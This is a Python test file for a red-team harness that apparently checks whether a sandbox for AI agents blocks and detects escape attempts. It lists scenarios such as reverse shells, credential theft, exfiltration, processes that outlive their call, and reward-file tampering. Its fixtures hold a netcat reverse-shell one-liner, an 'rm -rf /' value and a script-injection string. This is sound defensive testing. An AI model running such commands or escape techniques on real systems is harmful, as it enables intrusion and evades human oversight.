"""Scenario definitions as data: loading, validation with file and line, placeholders, selection, reports."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from corral import Policy
from corral.errors import InputError
from corral.redteam import (
    CHECK_KINDS,
    Evidence,
    ScenarioResult,
    Scorecard,
    builtin_scenario_dir,
    load_scenarios,
    render,
    select,
)
from corral.redteam._html import policy_in_words, render_html
from corral.redteam._range import TARGETS, Range

REQUIRED = {
    "ssh-reverse-tunnel", "ssh-socks-proxy", "nc-fifo-reverse-shell", "bash-dev-tcp-shell",
    "python-inline-reverse-shell", "socat-reverse-shell", "proxy-connect-reverse-shell", "stratum-miner",
    "cloud-metadata-credentials", "internal-service-probe", "dns-exfiltration", "http-upload-exfiltration",
    "host-services-reach", "write-outside-workspace", "read-host-secrets", "signal-host-process",
    "survive-nohup", "survive-setsid", "survive-double-fork", "survive-tmux", "fork-bomb", "memory-bomb",
    "disk-fill", "firewall-and-routes", "kernel-tunables", "ptrace-host-process", "mount-filesystems",
    "nsenter-host", "tamper-event-store", "tamper-reward-files",
}  # fmt: skip


def test_builtin_scenarios_cover_the_issue() -> None:
    scenarios = load_scenarios()
    assert {s.name for s in scenarios} >= REQUIRED
    for s in scenarios:
        assert s.checks, f"{s.name}: no way to tell it was blocked"
        assert s.detect, f"{s.name}: no expected detection category"
        for c in s.checks:
            if c.kind == "silent":
                assert set(c.arg) <= set(TARGETS), s.name


def test_every_placeholder_of_the_builtin_set_is_known() -> None:
    known = set(Range(Path("/nonexistent"), "n0nce").values()) | {"victim.pid", "store.path", "store.dir"}
    values = dict.fromkeys(known, "x")
    for s in load_scenarios():
        render(s.command, values, where=s.name)
        for text in s.seed.values():
            render(text, values, where=s.name)


@pytest.mark.parametrize(
    ("text", "values", "out"),
    [
        ("nc {{relay.ip}} {{ relay.port }}", {"relay.ip": "h", "relay.port": "1"}, "nc h 1"),
        ("echo ${HOME} {x}", {}, "echo ${HOME} {x}"),  # shell syntax is left alone
        ("a{{n}}b{{n}}", {"n": "1"}, "a1b1"),
    ],
)  # fmt: skip
def test_render(text: str, values: dict[str, str], out: str) -> None:
    assert render(text, values, where="t") == out


def test_unknown_placeholder_is_an_error() -> None:
    with pytest.raises(InputError, match=r"unknown placeholder \{\{nope\}\}"):
        render("echo {{nope}}", {"a": "b"}, where="t")


HEAD = "scenarios:\n  - name: a-b\n    category: x\n    command: c\n"


def _write(d: Path, text: str, name: str = "mine.yaml") -> Path:
    d.mkdir(exist_ok=True)
    (d / name).write_text(text)
    return d


def test_user_directory_adds_scenarios(tmp_path: Path) -> None:
    d = _write(
        tmp_path / "s",
        "scenarios:\n  - name: my-probe\n    category: network_scan\n    command: nc -z {{internal.ip}} 22\n"
        "    detect: [network_scan]\n    checks: [{silent: [internal]}]\n    files: {x.sh: x.sh}\n",
    )
    (d / "x.sh").write_text("true\n")
    found = load_scenarios([d])
    assert found[-1].name == "my-probe" and found[-1].checks[0].kind == "silent"
    assert [s.name for s in load_scenarios([d], builtin=False)] == ["my-probe"]


@pytest.mark.parametrize(
    ("yaml_text", "message"),
    [
        (HEAD + "    checks: [bogus]\n", r":5: a-b\.checks"),
        ("scenarios:\n  - name: Bad_Name\n    category: x\n    command: c\n", r":2: Bad_Name\.name"),
        (HEAD + "    files: {/etc/x: y}\n", r"files"),
        (HEAD + "    files: {a: missing.py}\n", r"'missing.py' not found"),
        (HEAD + "    runs: rm -rf /\n", r"Extra inputs"),
        ("scenarios: [\n", r"invalid YAML"),
        ("just: a mapping\n", r"'scenarios' list"),
    ],
)  # fmt: skip
def test_invalid_scenarios_name_file_and_line(tmp_path: Path, yaml_text: str, message: str) -> None:
    d = _write(tmp_path / "s", yaml_text)
    with pytest.raises(InputError) as ei:
        load_scenarios([d], builtin=False)
    assert str(d / "mine.yaml") in str(ei.value)
    assert re.search(message, str(ei.value)), str(ei.value)


def test_problems_are_collected_in_one_pass(tmp_path: Path) -> None:
    d = _write(
        tmp_path / "s", "scenarios:\n  - name: x1\n    category: a\n    command: c\n    checks: [bad1]\n"
    )
    _write(d, "scenarios:\n  - name: x2\n    category: a\n    command: c\n    checks: [bad2]\n", "other.yaml")
    with pytest.raises(InputError) as ei:
        load_scenarios([d], builtin=False)
    assert "bad1" in str(ei.value) and "bad2" in str(ei.value)


def test_duplicate_names_across_directories_are_refused(tmp_path: Path) -> None:
    d = _write(tmp_path / "s", "scenarios:\n  - name: fork-bomb\n    category: a\n    command: c\n")
    with pytest.raises(InputError, match="duplicate scenario name"):
        load_scenarios([d])


def test_select_by_name_or_category() -> None:
    all_ = load_scenarios()
    assert [s.name for s in select(all_, ["fork-bomb"])] == ["fork-bomb"]
    assert {s.category for s in select(all_, ["persistence"])} == {"persistence"}
    assert select(all_, []) == all_
    with pytest.raises(InputError, match="unknown scenario or category: nope"):
        select(all_, ["nope"])


def test_check_kinds_are_all_implemented() -> None:
    from corral.redteam._checks import CHECKS

    assert set(CHECKS) == set(CHECK_KINDS)
    assert (builtin_scenario_dir() / "network.yaml").is_file()


def _card(blocked: bool) -> Scorecard:
    row = ScenarioResult(
        name="nc-fifo-reverse-shell",
        category="reverse_shell",
        description="<script>alert(1)</script>",
        blocked=blocked,
        detected=True,
        attributed=True,
        time_to_detect_s=0.001,
        detail="relay: nothing received",
        evidence=[Evidence(check="silent", ok=blocked, detail="relay <b>saw</b> nothing")],
        command="cat /tmp/f | sh -i 2>&1 | nc 198.18.0.44 4444 > /tmp/f",
        ctx={"run_id": "redteam-x", "episode_id": "nc-fifo-reverse-shell", "tool_call_id": "tc-1"},
    )
    pol = Policy.default()
    return Scorecard(
        scenarios=[row],
        policy_name=pol.name,
        policy=pol.model_dump(mode="json"),
        corral_version="0.1.0",
        kernel="Linux test",
        started=1_790_000_000.0,
        duration_s=1.0,
        run_id="redteam-x",
    )


def test_json_shape_and_summary() -> None:
    d = _card(False).to_json_dict()
    assert set(d) == {"scenarios", "summary"}
    assert {"name", "category", "blocked", "detected", "attributed", "detail"} <= set(d["scenarios"][0])
    assert d["summary"]["not_blocked"] == ["nc-fifo-reverse-shell"] and d["summary"]["total"] == 1


def test_html_escapes_and_says_what_failed() -> None:
    html = render_html(_card(False))
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html
    assert "NOT BLOCKED" in html and "No network at all" in html and "Linux test" in html
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:|//)""", html)
    assert "Every attack was blocked, and every one was detected." in render_html(_card(True))


def test_policy_in_words_for_weak_settings() -> None:
    pol = Policy.default().with_overrides(
        network={"mode": "allowlist", "allow": ["pypi.org", "198.18.0.44:443"]},
        processes={"lifetime": "episode"},
    )
    words = dict(policy_in_words(pol.model_dump(mode="json")))
    assert "pypi.org:443" in words["Network"] and "198.18.0.44/32:443" in words["Network"]
    assert "outlive their call" in words["Processes"]


def test_public_surface() -> None:
    import corral.redteam

    assert set(corral.redteam.__all__) == {
        "CHECK_KINDS", "SUCCESS_MARKER", "AlertSeen", "Check", "Evidence", "Lab", "Recorder", "Scenario",
        "ScenarioResult", "Scorecard", "Seen", "Service", "Sshd", "TargetNet", "TargetServers",
        "builtin_scenario_dir", "load_scenarios", "redteam_dir", "render", "run_redteam", "select",
    }  # fmt: skip


def test_scorecard_fits_80_columns_and_never_overclaims() -> None:
    import io

    from rich.console import Console

    from corral.redteam._html import print_scorecard, verdict_line
    from corral.redteam._model import ScenarioResult, Scorecard

    def row(name: str, blocked: bool, detected: bool) -> ScenarioResult:
        return ScenarioResult(
            name=name,
            category="credential_access",
            description="d",
            blocked=blocked,
            detected=detected,
            attributed=detected,
            detail="x",
            expected_detection=[],
            evidence=[],
            alerts=[],
            command="c",
            exit_code=0,
            stop_reason=None,
            call_blocked=False,
            duration_s=0.1,
            stdout_tail="",
            stderr_tail="",
            ctx={},
        )

    def card(*rows: ScenarioResult) -> Scorecard:
        return Scorecard(
            scenarios=list(rows),
            policy_name="default",
            policy={},
            corral_version="0",
            kernel="k",
            started=0,
            duration_s=1,
            run_id="r",
        )

    c = card(row("cloud-metadata-credentials", True, True), row("survive-double-fork", True, False))
    out = io.StringIO()
    print_scorecard(c, Console(file=out, width=80))
    lines = out.getvalue().splitlines()
    assert max(len(line) for line in lines) <= 80
    header = next(line for line in lines if "scenario" in line)
    for col in ("blocked", "alert", "tied", "secs"):
        assert col in header  # whole words, not cut to "bl…"
    assert "every one was detected" not in verdict_line(c) and "1 of 2 raised no alert" in verdict_line(c)
    assert verdict_line(card(row("a", True, True))) == "Every attack was blocked, and every one was detected."
    assert "NOT blocked" in verdict_line(card(row("a", False, True)))
